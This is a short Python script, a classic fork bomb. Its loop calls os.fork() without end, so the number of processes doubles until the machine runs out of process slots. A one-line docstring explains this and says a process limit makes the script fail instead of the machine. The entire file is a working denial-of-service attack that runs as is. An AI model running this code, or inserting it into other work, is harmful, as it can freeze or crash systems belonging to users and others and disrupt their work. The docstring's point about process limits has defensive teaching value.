"""Doubles until the machine has no room for another process; a limit on processes makes it fail, not the machine."""

import os

while True:
    os.fork()
